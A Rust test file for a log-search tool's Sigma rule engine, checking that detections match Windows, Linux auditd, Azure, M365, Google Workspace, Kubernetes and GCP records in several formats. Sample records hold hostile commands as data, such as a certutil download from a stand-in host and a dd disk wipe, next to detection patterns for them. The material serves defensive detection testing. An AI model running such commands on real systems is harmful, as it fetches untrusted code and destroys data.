//! Community rules name fields as one shipper did, records come from several: a rule of each log
//! source finds its record in every shape that is common, and not one that is much like it.

use crate::support::process::annals;
use serde_json::Value as Json;

/// A log source, a detection, the records that it means and those that it does not. Each record is
/// unlike all others.
struct Case {
    source: &'static str,
    detection: &'static str,
    found: &'static [&'static str],
    passed_over: &'static [&'static str],
}

const CASES: &[Case] = &[
    // A user was added to the local administrators.
    Case {
        source: "{product: windows, service: security}",
        detection: "selection:\n  EventID: 4732\n  Provider_Name: \
            Microsoft-Windows-Security-Auditing\n  TargetUserName|startswith: Administr\n\
            filter:\n  SubjectUserName|endswith: '$'\ncondition: selection and not filter",
        found: &[
            r##"{"Event":{"#attributes":{"xmlns":"http://schemas.microsoft.com/win/2004/08/events/event"},"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Security-Auditing"}},"EventID":4732,"TimeCreated":{"#attributes":{"SystemTime":"2026-09-15T11:22:01.201727Z"}},"EventRecordID":1,"Channel":"Security","Computer":"DC1"},"EventData":{"TargetUserName":"Administrators","SubjectUserName":"admin.kim"}}}"##,
            r##"{"Event":{"#attributes":{"xmlns":"http://schemas.microsoft.com/win/2004/08/events/event"},"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Security-Auditing"}},"EventID":{"#attributes":{"Qualifiers":0},"#text":4732},"TimeCreated":{"#attributes":{"SystemTime":"2026-09-15T11:22:02.201727Z"}},"EventRecordID":2,"Channel":"Security","Computer":"DC1"},"EventData":{"TargetUserName":"Administrators","SubjectUserName":"admin.kim"}}}"##,
            r#"{"@timestamp":"2026-09-16T08:00:01.123Z","agent":{"type":"winlogbeat"},"ecs":{"version":"8.0.0"},"event":{"code":"4732","kind":"event","provider":"Microsoft-Windows-Security-Auditing"},"winlog":{"channel":"Security","event_id":"4732","provider_name":"Microsoft-Windows-Security-Auditing","record_id":3,"event_data":{"TargetUserName":"Administrators","SubjectUserName":"admin.kim"}}}"#,
            r#"{"EventTime":"2026-09-14T13:54:16.6138329Z","Hostname":"DC1","EventType":"AUDIT_SUCCESS","EventID":4732,"SourceName":"Microsoft-Windows-Security-Auditing","RecordNumber":4,"Channel":"Security","TargetUserName":"Administrators","SubjectUserName":"admin.kim"}"#,
        ],
        passed_over: &[
            r##"{"Event":{"#attributes":{"xmlns":"http://schemas.microsoft.com/win/2004/08/events/event"},"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Security-Auditing"}},"EventID":4732,"TimeCreated":{"#attributes":{"SystemTime":"2026-09-15T11:22:05.201727Z"}},"EventRecordID":5,"Channel":"Security","Computer":"DC1"},"EventData":{"TargetUserName":"Administrators","SubjectUserName":"DC1$"}}}"##,
            r#"{"@timestamp":"2026-09-16T08:00:06.123Z","agent":{"type":"winlogbeat"},"ecs":{"version":"8.0.0"},"event":{"code":"4733","kind":"event","provider":"Microsoft-Windows-Security-Auditing"},"winlog":{"channel":"Security","event_id":"4733","provider_name":"Microsoft-Windows-Security-Auditing","record_id":6,"event_data":{"TargetUserName":"Administrators","SubjectUserName":"admin.kim"}}}"#,
        ],
    },
    // A program was run by another, as Sysmon says it.
    Case {
        source: "{product: windows, category: process_creation}",
        detection: "selection:\n  Image|endswith: '\\certutil.exe'\n  CommandLine|contains|all:\n    \
            - urlcache\n    - 'http'\n  ParentImage|fieldref: Image\nother:\n  \
            Image|endswith: '\\certutil.exe'\n  CommandLine|contains: urlcache\n  \
            IntegrityLevel: null\ncondition: selection or other",
        found: &[
            r##"{"Event":{"#attributes":{"xmlns":"http://schemas.microsoft.com/win/2004/08/events/event"},"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Sysmon"}},"EventID":1,"TimeCreated":{"#attributes":{"SystemTime":"2026-09-15T12:22:01.201727Z"}},"EventRecordID":11,"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"PC1"},"EventData":{"Image":"C:\\Windows\\System32\\certutil.exe","CommandLine":"certutil -urlcache -f http://x.example/a","ParentImage":"C:\\Windows\\System32\\certutil.exe","IntegrityLevel":"High"}}}"##,
            r#"{"@timestamp":"2026-09-16T09:00:01.123Z","agent":{"type":"winlogbeat"},"ecs":{"version":"8.0.0"},"event":{"code":"1","kind":"event","provider":"Microsoft-Windows-Sysmon"},"process":{"executable":"C:\\Windows\\System32\\certutil.exe","command_line":"certutil.exe -urlcache -f http://x.example/b"},"winlog":{"channel":"Microsoft-Windows-Sysmon/Operational","event_id":"1","provider_name":"Microsoft-Windows-Sysmon","record_id":12}}"#,
        ],
        passed_over: &[
            r##"{"Event":{"#attributes":{"xmlns":"http://schemas.microsoft.com/win/2004/08/events/event"},"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Sysmon"}},"EventID":1,"TimeCreated":{"#attributes":{"SystemTime":"2026-09-15T12:22:03.201727Z"}},"EventRecordID":13,"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"PC1"},"EventData":{"Image":"C:\\Windows\\System32\\certutil.exe","CommandLine":"certutil -urlcache -f http://x.example/c","ParentImage":"C:\\Windows\\cmd.exe","IntegrityLevel":"High"}}}"##,
        ],
    },
    // A disk was overwritten: what was run stands in the record of one type, who ran it in another.
    Case {
        source: "{product: linux, service: auditd}",
        detection: "selection:\n  type: EXECVE\n  a0|contains: dd\n  a1|contains:\n    - \
            if=/dev/null\n    - if=/dev/zero\nfilter:\n  exe|endswith: /backup-dd\ncondition: \
            selection and not filter",
        found: &[
            "type=SYSCALL msg=audit(1789500100.000:1): syscall=59 success=yes exit=0 auid=1000 \
             uid=0 comm=\"dd\" exe=\"/usr/bin/dd\"\ntype=EXECVE msg=audit(1789500100.000:1): \
             argc=3 a0=\"dd\" a1=\"if=/dev/zero\" a2=\"of=/dev/sda\"",
            r#"{"time":"2026-09-16T08:10:00Z","event_name":"execve","source":"flat","type":"EXECVE","a0":"dd","a1":"if=/dev/null","exe":"/usr/bin/dd"}"#,
        ],
        passed_over: &[
            "type=SYSCALL msg=audit(1789500101.000:2): syscall=59 success=yes exit=0 auid=1000 \
             uid=0 comm=\"dd\" exe=\"/opt/backup-dd\"\ntype=EXECVE msg=audit(1789500101.000:2): \
             argc=3 a0=\"dd\" a1=\"if=/dev/zero\" a2=\"of=/dev/sdb\"",
            "type=SYSCALL msg=audit(1789500102.000:3): syscall=2 success=yes exit=0 \
             a0=\"dd\" a1=\"if=/dev/zero\" comm=\"dd\" exe=\"/usr/bin/dd\"",
        ],
    },
    Case {
        source: "{product: linux, service: auditd}",
        detection: "path:\n  type: PATH\n  nametype: CREATE\nname_1:\n  name|startswith: \
            /etc/systemd/system/\nname_2:\n  name|contains: /.config/systemd/user/\ncondition: \
            path and 1 of name_*",
        found: &["type=SYSCALL msg=audit(1789500200.000:4): syscall=257 success=yes exit=3 uid=0 \
             comm=\"cp\" exe=\"/usr/bin/cp\"\ntype=PATH msg=audit(1789500200.000:4): item=0 \
             name=\"/etc/systemd/system/\" nametype=PARENT\ntype=PATH \
             msg=audit(1789500200.000:4): item=1 name=\"/etc/systemd/system/x.service\" \
             nametype=CREATE"],
        passed_over: &[
            "type=SYSCALL msg=audit(1789500201.000:5): syscall=257 success=yes exit=3 uid=0 \
             comm=\"cp\" exe=\"/usr/bin/cp\"\ntype=PATH msg=audit(1789500201.000:5): item=0 \
             name=\"/etc/systemd/system/x.service\" nametype=NORMAL",
        ],
    },
    Case {
        source: "{product: azure, service: activitylogs}",
        detection: "selection:\n  CategoryValue: Administrative\n  OperationNameValue: \
            Microsoft.KeyVault/vaults/delete\n  ResourceId|contains: rg-pay\ncondition: selection",
        found: &[
            r#"{"time":"2026-04-10T10:31:00Z","resourceId":"/SUBSCRIPTIONS/S1/RESOURCEGROUPS/RG-PAY/PROVIDERS/MICROSOFT.KEYVAULT/VAULTS/KV1","operationName":"MICROSOFT.KEYVAULT/VAULTS/DELETE","category":"Administrative","resultType":"Success","callerIpAddress":"198.51.100.5","correlationId":"a1","level":"Information","properties":{"statusCode":"OK"}}"#,
            r#"{"time":"2026-04-10T10:32:00Z","resourceId":"/SUBSCRIPTIONS/S1/RESOURCEGROUPS/RG-PAY/PROVIDERS/MICROSOFT.KEYVAULT/VAULTS/KV2","operationName":"MICROSOFT.KEYVAULT/VAULTS/DELETE","category":"Delete","resultType":"Success","callerIpAddress":"198.51.100.5","correlationId":"a2","level":"Information","properties":{"eventCategory":"Administrative"}}"#,
        ],
        passed_over: &[
            r#"{"time":"2026-04-10T10:33:00Z","resourceId":"/SUBSCRIPTIONS/S1/RESOURCEGROUPS/RG-PAY/PROVIDERS/MICROSOFT.KEYVAULT/VAULTS/KV3","operationName":"MICROSOFT.KEYVAULT/VAULTS/WRITE","category":"Administrative","resultType":"Success","callerIpAddress":"198.51.100.5","correlationId":"a3","level":"Information","properties":{"statusCode":"OK"}}"#,
        ],
    },
    Case {
        source: "{product: azure, service: auditlogs}",
        detection: "selection:\n  Category: RoleManagement\n  properties.message: Add member to \
            role\n  TargetResources.type: User\n  Status: Success\ncondition: selection",
        found: &[
            r#"{"time":"2026-05-01T08:00:00.0273716Z","resourceId":"/tenants/9c1e7d20/providers/Microsoft.aadiam","operationName":"Add member to role","category":"AuditLogs","correlationId":"b1","identity":"Admin Kim","Level":4,"properties":{"id":"b1","category":"RoleManagement","result":"success","activityDisplayName":"Add member to role","loggedByService":"Core Directory","targetResources":[{"id":"us01","type":"User"},{"id":"r1","type":"Role"}]}}"#,
        ],
        passed_over: &[
            r#"{"time":"2026-05-01T08:01:00.0273716Z","resourceId":"/tenants/9c1e7d20/providers/Microsoft.aadiam","operationName":"Add member to role","category":"AuditLogs","correlationId":"b2","identity":"Admin Kim","Level":4,"properties":{"id":"b2","category":"RoleManagement","result":"failure","activityDisplayName":"Add member to role","loggedByService":"Core Directory","targetResources":[{"id":"us01","type":"User"}]}}"#,
        ],
    },
    Case {
        source: "{product: azure, service: signinlogs}",
        detection: "selection:\n  Status: Success\n  AuthenticationRequirement: \
            singleFactorAuthentication\n  DeviceDetail.deviceId: ''\n  NetworkLocationDetails: \
            '[]'\ncondition: selection",
        found: &[
            r#"{"time":"2026-05-01T07:00:00.5000000Z","resourceId":"/tenants/9c1e7d20/providers/Microsoft.aadiam","operationName":"Sign-in activity","category":"SignInLogs","resultType":"0","callerIpAddress":"203.0.113.21","correlationId":"c1","identity":"Lena Hart","Level":4,"properties":{"id":"c1","userPrincipalName":"lena.hart@northwind.example","status":{"errorCode":0},"authenticationRequirement":"singleFactorAuthentication","deviceDetail":{"deviceId":""},"networkLocationDetails":[]}}"#,
        ],
        passed_over: &[
            r#"{"time":"2026-05-01T07:01:00.5000000Z","resourceId":"/tenants/9c1e7d20/providers/Microsoft.aadiam","operationName":"Sign-in activity","category":"SignInLogs","resultType":"50126","callerIpAddress":"203.0.113.21","correlationId":"c2","identity":"Lena Hart","Level":4,"properties":{"id":"c2","userPrincipalName":"lena.hart@northwind.example","status":{"errorCode":50126},"authenticationRequirement":"singleFactorAuthentication","deviceDetail":{"deviceId":""},"networkLocationDetails":[]}}"#,
        ],
    },
    Case {
        source: "{product: m365, service: threat_management}",
        detection: "selection:\n  eventSource: SecurityComplianceCenter\n  eventName: Activity \
            from anonymous IP addresses\n  status: success\ncondition: selection",
        found: &[
            r#"{"CreationTime":"2026-03-02T08:15:13","Id":"d1","Operation":"AlertTriggered","OrganizationId":"o1","RecordType":40,"ResultStatus":"Succeeded","UserKey":"k","UserType":4,"Version":1,"Workload":"SecurityComplianceCenter","ObjectId":"x","UserId":"SecurityComplianceAlerts","AlertId":"1","Name":"Activity from anonymous IP addresses","Severity":"Medium","Status":"Active"}"#,
        ],
        passed_over: &[
            r#"{"CreationTime":"2026-03-02T08:16:13","Id":"d2","Operation":"AlertTriggered","OrganizationId":"o1","RecordType":40,"ResultStatus":"Succeeded","UserKey":"k","UserType":4,"Version":1,"Workload":"SecurityComplianceCenter","ObjectId":"x","UserId":"SecurityComplianceAlerts","AlertId":"2","Name":"Mass download","Severity":"Medium","Status":"Active"}"#,
        ],
    },
    Case {
        source: "{product: m365, service: exchange}",
        detection: "selection:\n  eventSource: Exchange\n  eventName: New-InboxRule\n  status: \
            success\ncondition: selection",
        found: &[
            r#"{"CreationTime":"2026-03-02T09:10:11","Id":"d3","Operation":"New-InboxRule","OrganizationId":"o1","RecordType":1,"ResultStatus":"True","UserKey":"k","UserType":2,"Version":1,"Workload":"Exchange","ObjectId":"x","UserId":"lena.hart@northwind.example"}"#,
        ],
        passed_over: &[
            r#"{"CreationTime":"2026-03-02T09:11:11","Id":"d4","Operation":"New-InboxRule","OrganizationId":"o1","RecordType":1,"ResultStatus":"False","UserKey":"k","UserType":2,"Version":1,"Workload":"Exchange","ObjectId":"x","UserId":"lena.hart@northwind.example"}"#,
        ],
    },
    Case {
        source: "{product: gcp, service: google_workspace.admin}",
        detection: "selection:\n  eventService: admin.googleapis.com\n  eventName:\n    - \
            GRANT_ADMIN_PRIVILEGE\n    - GRANT_DELEGATED_ADMIN_PRIVILEGES\ncondition: selection",
        found: &[
            r#"{"kind":"admin#reports#activity","id":{"time":"2026-07-01T15:00:03.481Z","uniqueQualifier":"1","applicationName":"admin","customerId":"C0"},"actor":{"email":"admin.kim@northwind.example"},"events":[{"type":"DELEGATED_ADMIN_SETTINGS","name":"GRANT_ADMIN_PRIVILEGE"}]}"#,
        ],
        passed_over: &[
            r#"{"kind":"admin#reports#activity","id":{"time":"2026-07-01T15:00:04.481Z","uniqueQualifier":"2","applicationName":"admin","customerId":"C0"},"actor":{"email":"admin.kim@northwind.example"},"events":[{"type":"USER_SETTINGS","name":"SUSPEND_USER"}]}"#,
            r#"{"kind":"admin#reports#activity","id":{"time":"2026-07-01T15:00:05.481Z","uniqueQualifier":"3","applicationName":"drive","customerId":"C0"},"actor":{"email":"admin.kim@northwind.example"},"events":[{"type":"x","name":"GRANT_ADMIN_PRIVILEGE"}]}"#,
        ],
    },
    Case {
        source: "{product: kubernetes, service: audit}",
        detection: "selection:\n  verb: patch\n  apiGroup: apps\n  objectRef.resource: \
            deployments\ncondition: selection",
        found: &[
            r#"{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Request","auditID":"e1","stage":"ResponseComplete","requestURI":"/apis/apps/v1/namespaces/d/deployments/x","verb":"patch","user":{"username":"ann"},"objectRef":{"resource":"deployments","namespace":"d","name":"x","apiGroup":"apps","apiVersion":"v1"},"responseStatus":{"code":200},"requestReceivedTimestamp":"2026-07-01T15:00:03.481000Z","stageTimestamp":"2026-07-01T15:00:03.482000Z"}"#,
        ],
        passed_over: &[
            r#"{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Request","auditID":"e2","stage":"ResponseComplete","requestURI":"/apis/apps/v1/namespaces/d/deployments/x","verb":"get","user":{"username":"ann"},"objectRef":{"resource":"deployments","namespace":"d","name":"x","apiGroup":"apps","apiVersion":"v1"},"responseStatus":{"code":200},"requestReceivedTimestamp":"2026-07-01T15:00:04.481000Z","stageTimestamp":"2026-07-01T15:00:04.482000Z"}"#,
        ],
    },
    Case {
        source: "{product: gcp, service: gcp.audit}",
        detection: "selection:\n  gcp.audit.method_name|endswith: .delete\n  \
            data.protoPayload.resource.type: gcs_bucket\n  data.protoPayload.logName|contains: \
            activity\ncondition: selection",
        found: &[
            r#"{"protoPayload":{"@type":"type.googleapis.com/google.cloud.audit.AuditLog","serviceName":"storage.googleapis.com","methodName":"storage.buckets.delete","resourceName":"projects/_/buckets/b1"},"insertId":"f1","resource":{"type":"gcs_bucket","labels":{"bucket_name":"b1"}},"timestamp":"2026-07-01T15:00:03.481Z","severity":"NOTICE","logName":"projects/p/logs/cloudaudit.googleapis.com%2Factivity"}"#,
        ],
        passed_over: &[
            r#"{"protoPayload":{"@type":"type.googleapis.com/google.cloud.audit.AuditLog","serviceName":"storage.googleapis.com","methodName":"storage.objects.delete","resourceName":"projects/_/buckets/b1"},"insertId":"f2","resource":{"type":"gcs_bucket","labels":{"bucket_name":"b1"}},"timestamp":"2026-07-01T15:00:04.481Z","severity":"NOTICE","logName":"projects/p/logs/cloudaudit.googleapis.com%2Fdata_access"}"#,
        ],
    },
];

#[test]
fn rules_find_the_records_of_their_source_in_every_shape() {
    let folder = tempfile::tempdir().expect("a temporary directory");
    let data = folder.path().join("data").display().to_string();
    let all = || CASES.iter().flat_map(|case| case.found.iter().chain(case.passed_over));
    let input = folder.path().join("input");
    std::fs::create_dir(&input).expect("a folder");
    let (json, lines): (Vec<&str>, Vec<&str>) = all().partition(|record| record.starts_with('{'));
    std::fs::write(input.join("records.ndjson"), json.join("\n")).expect("a file");
    std::fs::write(input.join("audit.log"), lines.join("\n")).expect("a file");
    let input = input.display().to_string();
    annals(&["ingest", "--data", &data, "--tenant", "t", &input]).ok();
    let count = annals(&["count", "--data", &data, "--tenant", "t"]).ok();
    assert!(count.contains(&all().count().to_string()), "every record is an event: {count}");
    for (number, case) in CASES.iter().enumerate() {
        let detection: String = case.detection.lines().map(|line| format!("  {line}\n")).collect();
        let rule = folder.path().join(format!("{number}.yml"));
        let text = format!("title: T\nlogsource: {}\ndetection:\n{detection}", case.source);
        std::fs::write(&rule, &text).expect("a file");
        let rule = rule.display().to_string();
        let asked = ["sigma", "--data", &data, "-o", "ndjson", "--all", "--original", &rule];
        let ran = annals(&asked);
        assert_eq!(ran.code, 0, "{text}{ran:?}");
        let mut listed: Vec<String> = ran.out.lines().map(received).collect();
        let mut expected: Vec<String> =
            case.found.iter().map(|record| (*record).to_owned()).collect();
        listed.sort();
        expected.sort();
        assert_eq!(listed, expected, "{text}");
    }
}

/// The record as it was received: lines are kept within what they were read as.
fn received(listed: &str) -> String {
    let listed: Json = serde_json::from_str(listed).expect("one object a line");
    let record = listed["event"]["original"].as_str().expect("the record");
    let parsed: Json = serde_json::from_str(record).expect("records are JSON");
    parsed["event"]["original"].as_str().unwrap_or(record).to_owned()
}

/// A document that is malformed or cannot be translated is refused by itself.
#[test]
fn the_other_rules_of_a_file_run() {
    let folder = tempfile::tempdir().expect("a temporary directory");
    let rule = folder.path().join("rules.yml");
    let sound = |title: &str| {
        format!("title: {title}\nlogsource: {{}}\ndetection: {{s: {{a: b}}, condition: s}}\n")
    };
    let text = format!(
        "# first\n---\n{}---\ntitle: [\n--- # third\n{}---\n- no rule\n...\n---\n---\n{}",
        sound("one"),
        sound("three"),
        sound("five").replace("condition: s", "condition: s | count() > 1"),
    );
    std::fs::write(&rule, text).expect("a file");
    let ran = annals(&["sigma", &rule.display().to_string(), "--show-filter"]);
    assert_eq!(ran.code, 1, "{ran:?}");
    let titles: Vec<&str> =
        ran.out.lines().map(|line| line.split("\"title\":").nth(1).unwrap_or(line)).collect();
    assert_eq!(titles, ["\"one\"}", "\"three\"}"], "{ran:?}");
    for said in [
        "rules.yml: document 2 is no YAML",
        "rules.yml: document 4 is no Sigma rule",
        "rules.yml: \"five\" cannot be translated: detection.condition",
        "3 of 5 rules were not run",
    ] {
        assert!(ran.err.contains(said), "{}", ran.err);
    }
}
